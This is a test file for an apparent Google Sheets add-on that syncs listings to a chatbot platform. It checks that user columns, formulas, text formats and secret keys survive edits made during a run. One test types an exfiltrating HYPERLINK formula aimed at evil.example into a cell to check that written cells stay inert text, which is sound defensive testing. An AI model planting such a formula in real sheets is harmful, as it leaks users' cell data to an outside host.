/** Cells, keys and words around a run that must stay what they are. */
import { afterEach, describe, expect, test } from 'vitest';
import type { ServiceCall } from '../../playground/apps-script/emulator.ts';
import {
  beginWaiting,
  CHATBOT_ID,
  COLLEAGUE,
  kindOf,
  openSheet,
  SECRET_KEY,
  type SheetOptions,
  succeed,
  type TestSheet,
} from './listing-sheet.ts';
import { LISTING_HEADERS, listingRow, listingRows, records } from './listings.ts';

let sheet: TestSheet;
afterEach(() => sheet.close());

const sync = { action: 'sync', scope: 'tab' } as const;

async function openListings(rows: readonly (readonly string[])[], more: SheetOptions = {}): Promise<void> {
  sheet = await openSheet(rows, { ...more, platform: { listings: records('A1', 'A2'), ...more.platform } });
}

/** A column of the tab by its exact header, as values. */
function ownColumn(header: string): readonly unknown[] {
  const [headers = [], ...rows] = sheet.emulator.hands.values('Tab');
  const columnIndex = headers.indexOf(header);
  return rows.map((row) => row[columnIndex]);
}

describe('a column that only shares a name with one of the add-on’s', () => {
  test.each([
    ['Synced at', '2025-01-05'],
    ['Sync detail', 'exported by the office'],
    ['Sync mark', 'left thumb'],
  ])('keeps what it holds: %s', async (header, text) => {
    const rows = listingRows('A1', 'A2').map((row, rowIndex) => [...row, rowIndex === 0 ? header : text]);
    await openListings(rows);
    const before = ownColumn(header);
    const reply = await sheet.ask('startRun', sync);
    if (reply.ok && reply.value.kind === 'started') {
      await sheet.ask('continueRun', { runId: reply.value.progress.runId });
    }
    expect(ownColumn(header)).toEqual(before);
  });

  test('is not taken for it because of another case, once the add-on has its own', async () => {
    await openListings(listingRows('A1', 'A2'));
    await sheet.run(sync);
    sheet.emulator.hands.insertColumns('Tab', 1, 1);
    sheet.emulator.hands.paste('Tab', 'A1', [['SYNC STATUS'], ['weekly'], ['monthly']]);
    sheet.emulator.hands.clear('Tab', 'C2');
    await sheet.ask('startRun', sync);
    expect(sheet.column('SYNC STATUS')).toEqual(['weekly', 'monthly']);
  });
});

describe('text that is written', () => {
  test('stays text although somebody cleared the formatting while the run was waiting', async () => {
    await openListings(listingRows('A1', 'A2'));
    const started = succeed(await sheet.begin(sync));
    if (started.kind !== 'started') throw new Error('not started');
    sheet.emulator.hands.setNumberFormat('Tab', 'U1:X10', 'General');
    await sheet.emulator.advanceClock(30_000);
    succeed(await sheet.ask('continueRun', { runId: started.progress.runId }));
    const [headers = [], row = []] = sheet.emulator.hands.values('Tab');
    expect(row[headers.indexOf('Sync status')]).toBe('Updated');
    expect(typeof row[headers.indexOf('Synced at')]).toBe('string');
  });
});

describe('text is text in every row', () => {
  const own = (header: string) => sheet.column(header);
  const inputs = () => {
    const cells = sheet.emulator.hands.snapshot().tabs.find(({ name }) => name === 'Tab')?.cells ?? [];
    return cells.map((row) => row.map(({ input }) => input));
  };
  const columnOf = (header: string) => String.fromCharCode(65 + (inputs()[0] ?? []).indexOf(header));
  const push = { action: 'push', scope: 'tab' } as const;
  /** Lets something happen between the look at rows and a write of them: the first is of marks, the second of outcomes. */
  const beforeWrite = (nth: number, happen: () => void) => {
    let writes = 0;
    const isIt = ({ tabName }: ServiceCall) => {
      writes += tabName === 'Tab' ? 1 : 0;
      return tabName === 'Tab' && writes === nth;
    };
    sheet.emulator.before('Range.setValues', isIt, happen);
  };

  test('in one that came without our format: a detail that begins with a header is no formula', async () => {
    sheet = await openSheet(
      [
        ['ID', "'+ Extras"],
        ['1', 'x'],
        ['2', 'x'],
        ['3', '=NA()'],
      ],
      {
        platform: { rows: [1, 2, 3].map((ID) => ({ ID, Data: {} })) },
      },
    );
    await sheet.run(push);
    const [first, last] = [columnOf('Sync mark'), columnOf('Synced at')];
    sheet.emulator.hands.clear('Tab', `${first}4:${last}4`);
    sheet.emulator.hands.setNumberFormat('Tab', `${first}2:${last}4`, 'General');
    await sheet.run(push);
    expect(own('Sync detail')[2]).toBe('+ Extras shows the error #N/A. Correct the formula.');
    expect(succeed(await sheet.ask('startRun', push))).toMatchObject({ kind: 'started' });
  });

  test('in one between two rows that are written', async () => {
    await openListings(listingRows('A1', 'A2', 'A3'), { platform: { listings: records('A1', 'A2', 'A3') } });
    await sheet.run(sync);
    const [detail, description] = [`${columnOf('Sync detail')}3`, columnOf('Description')];
    sheet.emulator.hands.setNumberFormat('Tab', detail, 'General');
    sheet.emulator.hands.type('Tab', detail, `'=HYPERLINK("https://evil.example/?"&A3,"note")`);
    const before = own('Sync detail')[1];
    for (const row of [2, 4]) sheet.emulator.hands.type('Tab', `${description}${row}`, 'New.');
    sheet.emulator.hands.select('Tab', ['A2', 'A4']);
    await sheet.run({ action: 'sync', scope: 'selection' });
    expect(own('Sync detail')).toEqual(['Updated.', before, 'Updated.']);
  });

  test('in all of them where somebody cleared the format: times stay texts', async () => {
    await openListings(listingRows('A1', 'A2'));
    await sheet.run(sync);
    const [first, last] = [columnOf('Sync mark'), columnOf('Synced at')];
    sheet.emulator.hands.clear('Tab', `${first}2:${last}3`);
    sheet.emulator.hands.setNumberFormat('Tab', `${first}3:${last}3`, 'General');
    await sheet.run(sync);
    expect(ownColumn('Synced at').map((time) => typeof time)).toEqual(['string', 'string']);
  });

  test('and a formula that ours took the place of, because a column came in that moment, is not lost without a word', async () => {
    const rows = listingRows('A1', 'A2', 'A3').map((row, index) => [
      ...row,
      index === 0 ? 'Words' : `=LEN(A${index + 1})`,
    ]);
    await openListings(rows, { platform: { listings: records('A1', 'A2', 'A3') } });
    await sheet.run(sync);
    sheet.platform.journal.clear();
    sheet.emulator.hands.type('Tab', `${columnOf('Description')}3`, 'New.');
    sheet.emulator.before('Range.setValues', 1, () => sheet.emulator.hands.insertColumns('Tab', 3, 1));
    const { state, message } = await sheet.run(sync);
    expect([state, message]).toEqual(['stopped', expect.stringContaining('some cells under “Words” hold values now')]);
    expect(sheet.requests()).toEqual([]);
    expect(sheet.column('Sync status')).toEqual(['Updated', 'Updated', 'Updated']);
    expect(sheet.column('Sync mark').join()).not.toContain('run-');
    expect(sheet.column('Words')).toEqual(['2', '2', '2']);
  });

  test.each([
    ['before its marks are written', 1],
    ['before its outcomes are', 2],
  ])('and rows inserted above the header row in that moment leave nothing of ours in it: %s', async (_words, nth) => {
    for (const count of [1, 3]) {
      await openListings(listingRows('A1', 'A2', 'A3'), { platform: { listings: records('A1', 'A2', 'A3') } });
      await sheet.run(sync);
      const [header = [], ...rows] = sheet.emulator.hands.values('Tab');
      const description = columnOf('Description');
      for (const row of [2, 3]) sheet.emulator.hands.type('Tab', `${description}${row}`, `New ${row}.`);
      beforeWrite(nth, () => sheet.emulator.hands.insertRows('Tab', 1, count));
      expect((await sheet.run(sync)).counts).toEqual({ Updated: 2, Unchanged: 1 });
      const [headerNow = [], ...rowsNow] = sheet.emulator.hands.values('Tab').slice(count);
      expect(headerNow).toEqual(header);
      expect(sheet.emulator.hands.values('Tab').slice(0, count).flat().join('')).toBe('');
      const theirs = (row: readonly unknown[]) => row.slice(0, LISTING_HEADERS.length);
      const typed = rows.map((row, index) =>
        row.map((value, column) =>
          column === header.indexOf('Description') && index < 2 ? `New ${index + 2}.` : value,
        ),
      );
      expect(rowsNow.map(theirs)).toEqual(typed.map(theirs));
      expect(rowsNow.map((row) => row[header.indexOf('Sync status')])).toEqual(['Updated', 'Updated', 'Updated']);
      sheet.close();
    }
  });

  test.each(['Sync status', 'Sync detail', 'Synced at', 'Sync mark'])(
    'and where %s is deleted in that moment whatever stood right of it says what it said',
    async (gone) => {
      await openListings(listingRows('A1', 'A2'));
      await sheet.run(sync);
      // Right of ours, where the last of what is written comes to stand.
      const wordColumn = (inputs()[0]?.length ?? 0) + 1;
      sheet.emulator.hands.paste('Tab', `${String.fromCharCode(64 + wordColumn)}1`, [
        ['Words'],
        ['word 1'],
        ['word 2'],
      ]);
      sheet.emulator.hands.type('Tab', `${columnOf('Description')}2`, 'New.');
      sheet.platform.journal.clear();
      const headers = inputs()[0] ?? [];
      const goneIndex = headers.indexOf(gone);
      const rightOfIt = headers.slice(goneIndex + 1);
      const said = rightOfIt.map(own);
      beforeWrite(1, () => sheet.emulator.hands.deleteColumns('Tab', goneIndex + 1, 1));
      const refused = await sheet.ask('startRun', sync);
      expect(refused).toMatchObject({ ok: false, error: { kind: 'statusColumnsGone' } });
      expect(sheet.requests()).toEqual([]);
      expect(rightOfIt.map(own)).toEqual(said);
    },
  );

  test('and a formula right of ours is not lost without a word where one of ours is deleted in that moment', async () => {
    await openListings(listingRows('A1', 'A2'));
    await sheet.run(sync);
    const wordColumn = String.fromCharCode(65 + (inputs()[0]?.length ?? 0));
    sheet.emulator.hands.paste('Tab', `${wordColumn}1`, [['Words'], ['=LEN(A2)'], ['=LEN(A3)']]);
    sheet.emulator.hands.type('Tab', `${columnOf('Description')}2`, 'New.');
    const goneIndex = (inputs()[0] ?? []).indexOf('Synced at');
    beforeWrite(2, () => sheet.emulator.hands.deleteColumns('Tab', goneIndex + 1, 1));
    const { state, message } = await sheet.run(sync);
    expect(state).toBe('stopped');
    expect(message).toContain('some cells under “Words” hold values now');
    expect(own('Words')).toEqual(['2', '2']);
  });

  test.each(['Sync status', 'Sync detail', 'Synced at'])(
    'and a column inserted left of %s in that moment leaves each row its own status, detail and time',
    async (header) => {
      await openListings(listingRows('A1', 'A2'));
      await sheet.run(sync);
      sheet.emulator.hands.type('Tab', `${columnOf('Description')}2`, 'New.');
      const among = (inputs()[0] ?? []).indexOf(header);
      beforeWrite(2, () => sheet.emulator.hands.insertColumns('Tab', among + 1, 1));
      await sheet.run(sync);
      expect(own('Sync status')).toEqual(['Updated', 'Updated']);
      expect(own('Sync detail')).toEqual(['Updated.', 'Updated.']);
      expect(own('Synced at').map((text) => text.slice(0, 10))).toEqual(['2026-11-21', '2026-11-21']);
      expect(inputs().map((row) => row[among])).toEqual(['', '', '']);
    },
  );

  test('and of two rows with one key that are sorted in that moment each says what is true of it', async () => {
    sheet = await openSheet(
      [
        ['ID', 'Words'],
        ['1', 'b'],
        ['2', 'c'],
        ['1', 'a'],
      ],
      { platform: { rows: [1, 2].map((ID) => ({ ID, Data: {} })) } },
    );
    beforeWrite(2, () => sheet.emulator.hands.sort('Tab', 2, true, 2));
    await sheet.run(push);
    expect(own('Words')).toEqual(['a', 'b', 'c']);
    expect(own('Sync status')).toEqual(['Invalid', 'Pushed', 'Pushed']);
  });

  test('and where cells of ours are merged the run says so, before anything is sent', async () => {
    await openListings(listingRows('A1', 'A2'));
    await sheet.run(sync);
    sheet.platform.journal.clear();
    const status = columnOf('Sync status');
    sheet.emulator.hands.merge('Tab', `${status}2:${status}3`);
    sheet.emulator.hands.type('Tab', `${columnOf('Description')}2`, 'New.');
    const refused = await sheet.ask('startRun', sync);
    expect(refused).toMatchObject({ ok: false, error: { kind: 'columnsRefused' } });
    expect(refused.ok ? '' : refused.error.message).toContain(`${status}2:${status}3`);
    expect(sheet.requests()).toEqual([]);
  });

  test('and a run whose cells are merged while it waits stops in words', async () => {
    await openListings(listingRows('A1', 'A2'));
    const { runId } = await beginWaiting(sheet, sync);
    const status = columnOf('Sync status');
    sheet.emulator.hands.merge('Tab', `${status}2:${status}3`);
    expect(await sheet.ask('continueRun', { runId })).toMatchObject({ ok: false, error: { kind: 'columnsRefused' } });
    expect(sheet.requests()).toEqual([]);
  });
});

describe('text that is written after a wait', () => {
  test('stays text although somebody cleared the formatting while a slice waited for the platform', async () => {
    await openListings(listingRows('A1', 'A2'));
    const clearFormat = () => sheet.emulator.hands.setNumberFormat('Tab', 'U1:X10', 'General');
    sheet.emulator.before('Utilities.sleep', () => true, clearFormat);
    sheet.platform.faults.add({ fault: { kind: 'status', status: 429, retryAfterSeconds: 90 }, times: 1 });
    let { state, runId } = await beginWaiting(sheet, sync);
    for (let slice = 1; slice <= 5 && state === 'running'; slice += 1)
      ({ state, runId } = succeed(await sheet.ask('continueRun', { runId })));
    expect(state).toBe('finished');
    expect(sheet.column('Sync status')).toEqual(['Updated', 'Updated']);
    const times = ownColumn('Synced at');
    expect(times.map((time) => typeof time)).toEqual(['string', 'string']);
  });
});

describe('the key', () => {
  test('is not found in a cell although the platform’s JSON spells one of its characters as an escape', async () => {
    const key = 'test"secret-key-4711-abcd';
    sheet = await openSheet(listingRows('A1'), {
      isConnected: false,
      platform: { secretKey: key, listings: records('A1') },
    });
    succeed(
      await sheet.ask('saveConnection', { key, chatbotId: CHATBOT_ID, authHeader: 'Authorization', sharing: 'me' }),
    );
    sheet.platform.faults.add({ fault: { kind: 'businessError', code: 400, message: `bad ${key} key` } });
    await sheet.run(sync);
    expect(sheet.column('Sync status')).toEqual(['Rejected']);
    expect(JSON.stringify(sheet.emulator.hands.values('Tab'))).not.toContain('secret-key-4711');
  });

  const connection = { chatbotId: CHATBOT_ID, authHeader: 'Authorization' } as const;
  /** Saves a connection although the platform cannot be asked about it just now. */
  const saveUntested = async (more: object, user?: string) => {
    sheet.platform.faults.add({ fault: { kind: 'dropBefore' }, times: 1 });
    succeed(await sheet.ask('saveConnection', { ...connection, ...more, isUntestedAccepted: true }, user));
  };

  test('that a team shares stays shared when a colleague saves a key of their own', async () => {
    sheet = await openSheet(listingRows('A1'), { isConnected: false });
    succeed(await sheet.ask('saveConnection', { ...connection, key: SECRET_KEY, sharing: 'file' }));
    await saveUntested({ key: 'a-key-of-my-own', sharing: 'me' }, COLLEAGUE);
    expect(kindOf(await sheet.ask('testConnection'))).toBe('ok');
  });

  test('of one chatbot does not replace the saved key of another', async () => {
    sheet = await openSheet(listingRows('A1'));
    await saveUntested({ key: 'the-key-of-bot-two', chatbotId: 'bottwo0000000000', sharing: 'me' });
    succeed(await sheet.ask('saveConnection', { ...connection, sharing: 'me' }));
    expect(kindOf(await sheet.ask('testConnection'))).toBe('ok');
  });

  test('that is not one word is told with advice about the key', async () => {
    sheet = await openSheet(listingRows('A1'), { isConnected: false });
    const reply = await sheet.ask('saveConnection', { ...connection, key: 'Bearer abcdefgh', sharing: 'me' });
    if (reply.ok) throw new Error('expected a refusal');
    expect(`${reply.error.message} ${reply.error.nextStep}`).not.toMatch(/does not exist|reopen the sidebar/);
  });
});

test('one row that cannot become a request does not stop the others', async () => {
  const rows = [LISTING_HEADERS, listingRow('A1'), listingRow('A2')].map((row, index) => [
    ...row,
    index === 0 ? '' : 'loose note',
  ]);
  await openListings(rows);
  const mapping = succeed(await sheet.ask('getMapping'));
  const settings = { ...mapping.settings, extraHeaders: [''] };
  const saved = await sheet.ask('saveTabSettings', { tabId: mapping.tabId, settings });
  expect(saved.ok ? kindOf(await sheet.ask('startRun', sync)) : saved.error.kind).toMatch(/^(ok|badArgument)$/);
});

test.each(['in English', 'in another language', 'in the words of the rule'] as const)(
  'a data validation that refuses a status %s is named, nothing is sent, and without it the run goes through',
  async (ruleRefusal) => {
    await openListings(listingRows('A1', 'A2'), { emulator: { edges: { ruleRefusal } } });
    await sheet.run(sync);
    sheet.emulator.hands.type('Tab', 'P2', '14 Sample Street');
    await sheet.emulator.evaluate(
      `const rule = SpreadsheetApp.newDataValidation().requireValueInList(['yes', 'no']).setAllowInvalid(false).setHelpText('Say yes or no.').build();
    SpreadsheetApp.getActiveSheet().getRange('V2:V9').setDataValidation(rule);`,
    );
    const sent = sheet.requests().length;
    const refused = await sheet.ask('startRun', sync);
    if (refused.ok) throw new Error('It began.');
    expect(refused.error.kind).toBe('columnsRefused');
    expect(refused.error.message).toContain('V2');
    expect(refused.error.nextStep).toContain('Data validation');
    expect(sheet.requests().length).toBe(sent);
    await sheet.emulator.evaluate(`SpreadsheetApp.getActiveSheet().getRange('V2:V9').clearDataValidations();`);
    expect((await sheet.run(sync)).counts).toEqual({ Updated: 1, Unchanged: 1 });
  },
);
